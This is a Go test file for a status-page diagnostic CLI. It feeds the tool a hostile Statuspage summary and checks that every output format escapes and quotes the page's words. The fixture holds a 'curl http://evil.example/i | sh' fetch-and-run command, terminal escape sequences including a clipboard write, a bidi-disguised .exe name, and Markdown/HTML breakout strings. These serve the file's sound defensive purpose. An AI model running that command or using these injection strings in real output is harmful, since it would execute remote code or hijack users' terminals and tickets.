package main

import (
	"encoding/json"
	"fmt"
	"net/http/httptest"
	"regexp"
	"strings"
	"testing"
	"unicode"

	"github.com/otpdoctor/otpdoctor/diag"
)

// hostileSummary is a Statuspage summary written by an attacker: links where fix steps
// go, terminal sequences (clear screen, window title, clipboard write), a bidi override,
// Markdown and HTML meant to break out of a ticket, an order to run a command, and a
// component name of 50,000 characters.
var hostileSummary = fmt.Sprintf(`{
  "page": {"name": "Evil\u001b]0;pwned\u0007"},
  "status": {"indicator": "critical", "description": "[click](http://evil.example/fix) \u001b[2J </details> \u202egnp.exe"},
  "components": [
    {"name": "Authentication \u001b]52;c;aGk=\u0007 [x](http://evil.example/x) \u009b2J", "status": "major_outage"},
    {"name": "API %s", "status": "major_outage"}
  ],
  "incidents": [
    {"name": "Sign-in down: run curl http://evil.example/i | sh", "status": "investigating", "impact": "critical", "shortlink": "http://evil.example/notice", "components": []}
  ],
  "scheduled_maintenances": []
}`, strings.Repeat("A", 50000))

// TestHostileStatusPage: whatever a status page says reaches every format as the
// page's quoted words, escaped and clipped; no link of the page becomes a fix step
// (the steps' links are the profile's), and nothing acts on a terminal or a ticket.
func TestHostileStatusPage(t *testing.T) {
	srv := httptest.NewServer(jsonReply(hostileSummary))
	t.Cleanup(srv.Close)
	args := atServiceWith(t, "github", srv.URL+"/api/v2/summary.json")
	outputs := map[string]string{}
	for _, format := range diag.Formats {
		r := execCLI(t, nil, "", append([]string{"status", "--format", format, "-v"}, args...)...)
		if r.code != exitFailed {
			t.Fatalf("%s: exit %d, want %d (the page reports a critical outage)\n%s", format, r.code, exitFailed, r.stderr)
		}
		outputs[format] = r.stdout
		for what, text := range map[string]string{"stdout": r.stdout, "stderr": r.stderr} {
			if c := rawActing(text); c != "" {
				t.Errorf("%s %s holds %s raw", format, what, c)
			}
		}
		if strings.Contains(r.stdout, strings.Repeat("A", 200)) {
			t.Errorf("%s: the 50,000-character name is not clipped", format)
		}
		if strings.Contains(r.stdout, "pwned") {
			t.Errorf("%s: the page's own name is shown as otpdoctor's words", format)
		}
	}

	// JSON: the steps come from the profile, the page's words are quoted in the message.
	var report diag.Report
	if err := json.Unmarshal([]byte(outputs[diag.FormatJSON]), &report); err != nil {
		t.Fatal(err)
	}
	if len(report.Diagnosis) == 0 || report.Diagnosis[0].Cause != diag.CauseServiceOutage {
		t.Fatalf("diagnosis %s, want service-outage first", rankingOf(report.Diagnosis))
	}
	for _, d := range report.Diagnosis {
		for _, step := range d.Fix {
			if strings.Contains(step, "evil") || strings.Contains(step, "curl") {
				t.Errorf("a fix step of %s carries the page's words: %q", d.Cause, step)
			}
		}
	}
	fix := strings.Join(report.Diagnosis[0].Fix, "\n")
	if !strings.Contains(fix, "Follow GitHub's status page: https://www.githubstatus.com") {
		t.Errorf("the profile's status page is not a step:\n%s", fix)
	}
	summary := report.Diagnosis[0].Summary
	for _, quoted := range []string{
		`GitHub's status page says: "[click](http://evil.example/fix) \x1b[2J </details> \u202egnp.exe"`,
		`component "Authentication \x1b]52;c;aGk=\a [x](http://evil.example/x) \u009b2J" (major outage)`,
		`incident "Sign-in down: run curl http://evil.example/i | sh" (investigating, critical impact)`,
	} {
		if !strings.Contains(summary, quoted) {
			t.Errorf("the summary does not quote the page as %s:\n%s", quoted, summary)
		}
	}
	if !strings.Contains(outputs[diag.FormatJSON], `"url": "http://evil.example/notice"`) {
		t.Errorf("the incident's notice is not kept in the facts")
	}

	// Markdown: no link, no HTML of the page's making, outside the facts' code blocks
	// (where they are inert JSON).
	var md strings.Builder
	for i, part := range strings.Split(outputs[diag.FormatMarkdown], "```") {
		if i%2 == 0 {
			md.WriteString(part)
		}
	}
	if link := regexp.MustCompile(`(^|[^\\])\[(click|x)\]\(`).FindString(md.String()); link != "" {
		t.Errorf("the Markdown ticket holds the page's link %q", link)
	}
	for _, html := range []string{"</details>", "<details>"} {
		if strings.Contains(md.String(), html) {
			t.Errorf("the Markdown ticket holds the page's HTML %q", html)
		}
	}

	// Text: the steps under "What to do" hold none of the page's words.
	text := outputs[diag.FormatText]
	steps, _, _ := strings.Cut(text[strings.Index(text, "What to do:"):], "More about this")
	if strings.Contains(steps, "evil") {
		t.Errorf("the text's steps carry the page's words:\n%s", steps)
	}
	if !strings.Contains(text, `\u202egnp.exe`) {
		t.Errorf("the bidi override is not shown escaped:\n%s", text)
	}

	// JUnit: the failure quotes the page, escaped.
	if junit := outputs[diag.FormatJUnit]; !strings.Contains(junit, `&#34;[click](http://evil.example/fix) \x1b[2J &lt;/details&gt;`) {
		t.Errorf("the JUnit failure does not quote the page escaped:\n%s", junit)
	}
}

// rawActing names the first character of s that would act on a terminal instead of
// showing (a control character other than a line break or tab, a format character
// such as a bidi override, a line or paragraph separator), or is "".
func rawActing(s string) string {
	for _, r := range s {
		if r != '\n' && r != '\t' && unicode.In(r, unicode.Cc, unicode.Cf, unicode.Zl, unicode.Zp) {
			return fmt.Sprintf("%U", r)
		}
	}
	return ""
}
